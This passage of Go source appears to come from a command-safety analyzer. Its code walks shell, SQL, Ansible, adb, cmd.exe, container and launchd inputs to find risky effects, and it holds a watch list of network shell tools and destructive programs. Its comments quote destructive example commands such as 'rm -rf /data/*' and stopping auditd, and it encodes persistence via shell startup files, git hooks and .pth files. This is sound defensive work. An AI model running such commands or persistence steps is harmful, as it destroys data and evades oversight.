	"python3", "python", "perl", "ruby", "node", "php", "base64", "nc", "ncat", "socat", "scp", "rsync", "tar",
	"mv", "cp", "tee", "truncate", "wipefs", "crontab", "sudo", "env", "eval", "xargs", "git", "kubectl", "aws",
	"setenforce", "systemctl", "ufw", "iptables", "history", "userdel", "mkfs.ext4", "fdisk", "parted", "gpg", "ssh",
}

// globProgram resolves a glob in a program name ("r?", "[r]m", "c*t").
func globProgram(pat string) string {
	for _, p := range globbedPrograms {
		if ok, err := path.Match(pat, p); err == nil && ok {
			return p
		}
	}
	return ""
}

// sqlClients are the database clients whose arguments and input are
// SQL.
var sqlClients = map[string]bool{"psql": true, "mysql": true, "mariadb": true, "sqlite3": true, "sqlcmd": true, "sqlplus": true, "cockroach": true,
	"clickhouse-client": true, "clickhouse": true, "duckdb": true, "snowsql": true, "snow": true, "bq": true, "trino": true, "presto": true,
	"spark-sql": true, "beeline": true, "cqlsh": true, "mongosh": true, "mongo": true}

// sqlStmtRe starts an SQL statement; sqlLiteralRe is a string literal
// in one (” escapes a quote).
var (
	sqlStmtRe    = refilter.MustCompile(`(?i)^\s*(select|with|insert|update|delete|show|explain|drop|alter|truncate|create|grant|revoke|merge|call)\b`)
	sqlLiteralRe = refilter.MustCompile(`'(?:[^']|'')*'`)
)

// sqlCommentRe is an SQL block comment.
var sqlCommentRe = refilter.MustCompile(`(?s)/\*.*?\*/`)

// rcBases are the startup files shells read at every start.
var rcBases = map[string]bool{".bash_aliases": true, ".aliases": true, ".zsh_aliases": true, ".bashrc": true, ".bash_profile": true, ".bash_login": true, ".profile": true, ".zshrc": true, ".zprofile": true, ".zshenv": true, ".zlogin": true, ".kshrc": true, ".mkshrc": true, "config.fish": true, "bash.bashrc": true}

// redirectsToRC reports whether output goes to a shell startup file or
// a git hook, whose lines run later without being typed again.
func redirectsToRC(rs []Redirect) bool {
	for _, r := range rs {
		switch r.Op {
		case ">", ">>", ">|", "&>", "&>>":
			if rcBases[path.Base(r.Target)] || strings.HasPrefix(CleanPath(r.Target), "/etc/profile") || gitHookPathRe.MatchString(r.Target) {
				return true
			}
		}
	}
	return false
}

// pthStartup runs the import lines of the .pth files the session wrote
// into a site-packages directory: Python executes them at every start.
func (w *walker) pthStartup(c ctx) {
	var pth []string
	for k, f := range w.st.Files {
		if strings.HasSuffix(k, ".pth") && strings.Contains(k, "-packages/") && !f.Downloaded {
			pth = append(pth, k)
		}
	}
	slices.Sort(pth)
	for _, k := range pth {
		f := w.st.Files[k]
		var code []string
		for _, l := range strings.Split(f.Content, "\n") {
			if strings.HasPrefix(l, "import ") || strings.HasPrefix(l, "import\t") {
				code = append(code, l)
			}
		}
		if len(code) == 0 {
			continue
		}
		cc := c.with("python .pth " + k)
		cc.crossCall = true
		for _, it := range w.st.extractMemo("python", strings.Join(code, "\n")) {
			w.codeItem(it, cc)
		}
	}
}

// redirectsToPth reports whether output goes to a Python .pth file.
func redirectsToPth(rs []Redirect) bool {
	for _, r := range rs {
		if (r.Op == ">" || r.Op == ">>") && strings.HasSuffix(r.Target, ".pth") {
			return true
		}
	}
	return false
}

// gitHookPathRe is a git hook file.
var gitHookPathRe = refilter.MustCompile(`(^|/)(\.git/hooks|\.githooks|\.husky|git-templates/hooks)/[a-z-]+$`)

// echoedText is what echo or printf (with a format and no
// conversions) prints, with "\n" escapes as newlines where the command
// would expand them.
func echoedText(name string, fields []string) (string, bool) {
	if name == "printf" {
		if len(fields) != 1 || strings.Contains(strings.ReplaceAll(fields[0], "%%", ""), "%") {
			return "", false
		}
		return strings.ReplaceAll(fields[0], `\n`, "\n"), true
	}
	esc := false
	for len(fields) > 0 && (fields[0] == "-n" || fields[0] == "-e" || fields[0] == "-ne" || fields[0] == "-en" || fields[0] == "-E") {
		esc = esc || strings.Contains(fields[0], "e")
		fields = fields[1:]
	}
	text := strings.Join(fields, " ")
	if esc {
		text = strings.ReplaceAll(text, `\n`, "\n")
	}
	return text, true
}

// writesOut reports whether redirects send standard output to a file.
func writesOut(rs []Redirect) bool {
	for _, r := range rs {
		switch r.Op {
		case ">", ">>", ">|", "&>", "&>>":
			return true
		}
	}
	return false
}

// parallelCommands returns the command lines of "parallel [OPTIONS] :::
// CMD...", when nothing but options comes before ":::".
func parallelCommands(args []string) ([]string, bool) {
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == ":::":
			return args[i+1:], i+1 < len(args)
		case a == "-j" || a == "--jobs" || a == "-S" || a == "--sshlogin" || a == "--delay" || a == "--timeout" || a == "--joblog" || a == "--results":
			i++
		case strings.HasPrefix(a, "-"):
		default:
			return nil, false
		}
	}
	return nil, false
}

func containsSource(list []Source, s Source) bool {
	for _, x := range list {
		if x.Kind == s.Kind && x.Name == s.Name && x.Text == s.Text {
			return true
		}
	}
	return false
}

// imageEntrypoints are images whose entrypoint is a known tool.
var imageEntrypoints = map[string]string{
	"amazon/aws-cli": "aws", "public.ecr.aws/aws-cli/aws-cli": "aws", "curlimages/curl": "curl", "alpine/git": "git",
	"bitnami/kubectl": "kubectl", "hashicorp/terraform": "terraform", "docker": "docker", "mcr.microsoft.com/azure-cli": "az",
	"google/cloud-sdk": "", "alpine/helm": "helm", "rancher/kubectl": "kubectl",
}

// outsideClient reports whether a command run in a container acts on
// something outside it: a cloud or cluster CLI, or a database client
// given a host or a URL ("sh -c CMD" read for CMD's first words).
func outsideClient(argv []string) bool {
	if len(argv) == 3 && shells[path.Base(argv[0])] && argv[1] == "-c" {
		argv = strings.Fields(argv[2])
		if len(argv) == 0 {
			return false
		}
	}
	switch path.Base(argv[0]) {
	case "aws", "gcloud", "gsutil", "bq", "az", "kubectl", "helm", "terraform", "doctl", "flyctl", "heroku":
		return true
	case "psql", "pg_dump", "pg_restore", "dropdb", "mysql", "mariadb", "mysqladmin", "mongosh", "mongo", "redis-cli", "cqlsh", "clickhouse-client":
		for _, a := range argv[1:] {
			if a == "-h" || strings.HasPrefix(a, "--host") || strings.HasPrefix(a, "-h") && len(a) > 2 || strings.Contains(a, "://") {
				return true
			}
		}
	}
	return false
}

// remoteTools act on something outside their container (a cloud, a
// cluster, the docker daemon, a remote repository) whatever it mounts.
var remoteTools = map[string]bool{"aws": true, "kubectl": true, "terraform": true, "docker": true, "az": true, "helm": true, "curl": true}

// imageName drops an image reference's tag and digest.
func imageName(ref string) string {
	if i := strings.IndexByte(ref, '@'); i >= 0 {
		ref = ref[:i]
	}
	if i := strings.LastIndexByte(ref, ':'); i > strings.LastIndexByte(ref, '/') {
		ref = ref[:i]
	}
	return ref
}

// hostPaths rewrites paths below a mount of the host's root ("/host/etc"
// is "/etc").
func hostPaths(argv []string, mount string) []string {
	out := make([]string, len(argv))
	for i, a := range argv {
		switch {
		case a == mount:
			a = "/"
		case strings.HasPrefix(a, mount+"/"):
			a = a[len(mount):]
		}
		out[i] = a
	}
	return out
}

// tempEnv sets NAME=value pairs as shell variables and returns the
// function that puts the previous values back.
func (w *walker) tempEnv(env []string) func() {
	type saved struct {
		name, val string
		had       bool
	}
	var prev []saved
	for _, kv := range env {
		name, val, ok := strings.Cut(kv, "=")
		if !ok || name == "" {
			continue
		}
		old, had := w.st.Vars[name]
		prev = append(prev, saved{name, old, had})
		w.st.Vars[name] = val
	}
	return func() {
		for i := len(prev) - 1; i >= 0; i-- {
			if p := prev[i]; p.had {
				w.st.Vars[p.name] = p.val
			} else {
				delete(w.st.Vars, p.name)
			}
		}
	}
}

// gnuCoreutils are the GNU tools Homebrew installs with a "g" prefix on
// macOS that matter to the packs.
var gnuCoreutils = map[string]bool{"rm": true, "shred": true, "dd": true, "chmod": true, "chown": true, "truncate": true,
	"cp": true, "mv": true, "ln": true, "cat": true, "tee": true, "find": true, "base64": true, "rmdir": true, "unlink": true,
	"head": true, "tail": true, "install": true, "env": true, "nohup": true, "timeout": true, "xargs": true, "sed": true, "awk": true}

// adbShell returns the command line "adb shell" runs on the device, or
// "" for an interactive shell or another adb command.
func adbShell(f []string) string {
	i := 0
	for i < len(f) && strings.HasPrefix(f[i], "-") {
		switch f[i] {
		case "-s", "-t", "-H", "-P", "-L":
			i++ // these take a value
		}
		i++
	}
	if i >= len(f) || f[i] != "shell" {
		return ""
	}
	i++
	for i < len(f) && strings.HasPrefix(f[i], "-") && len(f[i]) == 2 {
		i++ // -t, -T, -x, -n
	}
	// adb joins its words with spaces for the device's shell, which
	// parses the line again: "adb shell \"su -c 'rm -rf /data/*'\"".
	// Android's su takes the rest of its words as the command ("su -c
	// dd if=… of=…", what "adb shell su -c 'dd …'" becomes).
	words := f[i:]
	if len(words) >= 3 && words[0] == "su" && words[1] == "-c" {
		return "su -c " + quote(strings.Join(words[2:], " "))
	}
	return strings.Join(words, " ")
}

// ansibleModuleCommands is the shell equivalent of an Ansible module
// call given as "key=value" arguments: the command of shell, command,
// raw and script, and for the other modules what ansibleModuleArgs
// reads.
// copyProgramRe is PostgreSQL's COPY ... TO/FROM PROGRAM 'command'.
var copyProgramRe = refilter.MustCompile(`(?i)\b(?:to|from)\s+program\s+'((?:[^']|'')*)'`)

// ansibleValued are the options of ansible that take a value.
var ansibleValued = map[string]bool{"-i": true, "--inventory": true, "--inventory-file": true, "-l": true, "--limit": true,
	"-m": true, "--module-name": true, "-a": true, "--args": true, "-u": true, "--user": true, "-e": true, "--extra-vars": true,
	"-f": true, "--forks": true, "-M": true, "--module-path": true, "-T": true, "--timeout": true, "-B": true, "--background": true,
	"-P": true, "--poll": true, "--become-user": true, "--become-method": true, "--private-key": true, "--key-file": true,
	"-c": true, "--connection": true, "--vault-password-file": true, "--vault-id": true, "-t": true, "--tree": true}

// ansibleHosts is where an ad-hoc "ansible PATTERN -i INVENTORY ..."
// runs, as the rules read a remote host: the host pattern with the
// inventory and --limit, whose names say which environment it is
// ("-i inventory/prod swarm").
func ansibleHosts(f []string) string {
	var parts []string
	pattern := ""
	for i := 0; i < len(f); i++ {
		a := f[i]
		name, val, hasVal := strings.Cut(a, "=")
		switch {
		case ansibleValued[name] && strings.HasPrefix(a, "-"):
			if !hasVal && i+1 < len(f) {
				i++
				val = f[i]
			}
			switch name {
			case "-i", "--inventory", "--inventory-file", "-l", "--limit":
				parts = append(parts, val)
			}
		case strings.HasPrefix(a, "-"):
		case pattern == "":
			pattern = a
		}
	}
	return strings.Join(append([]string{pattern}, parts...), " ")
}

func ansibleModuleCommands(module, args string) []string {
	module = strings.TrimPrefix(module, "ansible.builtin.")
	module = strings.TrimPrefix(module, "ansible.legacy.")
	switch module {
	case "shell", "command", "raw":
		return []string{args}
	}
	kv := ansibleKV(args)
	return ansibleModuleArgs(module, func(k string) string { return kv[k] })
}

// ansibleKV reads a module's key=value arguments.
func ansibleKV(args string) map[string]string {
	kv := map[string]string{}
	for _, f := range strings.Fields(args) {
		if k, v, ok := strings.Cut(f, "="); ok {
			kv[k] = strings.Trim(v, `"'`)
		}
	}
	return kv
}

// playbookTaskRe finds a task's module line in a playbook: "shell: CMD",
// "ansible.builtin.command: CMD", "service: name=auditd state=stopped".
var playbookTaskRe = refilter.MustCompile(`(?m)^\s*-?\s*((?:ansible\.(?:builtin|legacy)\.)?(?:shell|command|raw|service|systemd|systemd_service))\s*:\s*(.*)$`)

// playbookTasks lists the (module, arguments) of a playbook's tasks whose
// arguments are written inline or as a block scalar (| or >) below.
func playbookTasks(src string) [][2]string {
	var out [][2]string
	for _, m := range playbookTaskRe.FindAllStringSubmatchIndex(src, 64) {
		module, val := src[m[2]:m[3]], strings.TrimSpace(src[m[4]:m[5]])
		if val == "|" || val == ">" || val == "|-" || val == ">-" {
			// The indented lines after it.
			rest := src[m[1]:]
			var lines []string
			for _, l := range strings.Split(strings.TrimPrefix(rest, "\n"), "\n") {
				if strings.TrimSpace(l) == "" || !strings.HasPrefix(l, "  ") {
					break
				}
				lines = append(lines, strings.TrimSpace(l))
			}
			val = strings.Join(lines, "\n")
		}
		val = strings.Trim(val, `"'`)
		if val != "" {
			out = append(out, [2]string{module, val})
		}
	}
	return out
}

// cmdUnescape removes cmd.exe's caret escapes outside double quotes
// ("r^d /s /q C:\\Users" is rd): ^ makes the next character literal.
func cmdUnescape(line string) string {
	if !strings.Contains(line, "^") {
		return line
	}
	var b strings.Builder
	inQ := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case c == '"':
			inQ = !inQ
			b.WriteByte(c)
		case c == '^' && !inQ && i+1 < len(line):
			i++
			b.WriteByte(line[i])
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// psArgsRe is an element of PowerShell's automatic $args array.
var psArgsRe = refilter.MustCompile(`\$args\[[0-9]\]`)

var (
	plistArgsRe   = refilter.MustCompile(`(?s)<key>\s*ProgramArguments\s*</key>\s*<array>(.*?)</array>|<key>\s*Program\s*</key>\s*<string>(.*?)</string>`)
	plistStringRe = refilter.MustCompile(`(?s)<string>(.*?)</string>`)
)

// plistProgram returns the argv a launchd plist runs (ProgramArguments,
// or Program), or nil.
func plistProgram(content string) []string {
	m := plistArgsRe.FindStringSubmatch(content)
	if m == nil {
		return nil
	}
	if m[2] != "" {
		return []string{xmlEntities.Replace(strings.TrimSpace(m[2]))}
	}
	var argv []string
	for _, sm := range plistStringRe.FindAllStringSubmatch(m[1], 32) {
		argv = append(argv, xmlEntities.Replace(sm[1]))
	}
	return argv
}

// hiddenOrTemp reports a program path in a temporary directory or a
// hidden one.
func hiddenOrTemp(p string) bool {
	for _, pre := range []string{"/tmp/", "/private/tmp/", "/var/tmp/", "/dev/shm/", "/Users/Shared/"} {
		if strings.HasPrefix(p, pre) {
			return true
		}
	}
	return strings.Contains(p, "/.")
}

// KubeContextKey is the session variable holding the Kubernetes context
// last chosen; kubeTools are the programs that act on it.
const KubeContextKey = "\x00kubecontext"

var kubeTools = map[string]bool{"kubectl": true, "helm": true, "oc": true, "kustomize": true, "argocd": true, "flux": true, "kubectl-argo-rollouts": true}

// guestExec returns the command a hypervisor's or scheduler's exec runs
// in its guest: after "--", or after the guest's name or id and its
// options.
func guestExec(prog string, f []string) []string {
	afterGuest := func(g []string) []string {
		if i := slices.Index(g, "--"); i >= 0 {
			return g[i+1:]
		}
		if len(g) == 0 {
			return nil
		}
		return g[skipOptions(g, 1, nil):]
	}
	switch {
	case prog == "lxc-attach":
		if i := slices.Index(f, "--"); i >= 0 {
			return f[i+1:]
		}
	case prog == "qm" && len(f) > 2 && f[0] == "guest" && f[1] == "exec":
		return afterGuest(f[2:])
	case prog == "nomad" && len(f) > 2 && f[0] == "alloc" && f[1] == "exec":
		g := f[2:]
		if i := skipOptions(g, 0, nomadExecValued); i+1 < len(g) {
			return g[i+1:]
		}
	case (prog == "pct" || prog == "lxc" || prog == "incus" || prog == "multipass" || prog == "prlctl") && len(f) > 1 && f[0] == "exec":
		return afterGuest(f[1:])
	}
	return nil
}

// nomadExecValued are "nomad alloc exec" options that take a value.
var nomadExecValued = map[string]bool{"-task": true, "-namespace": true, "-region": true, "-address": true, "-e": true, "-escape": true, "-token": true}
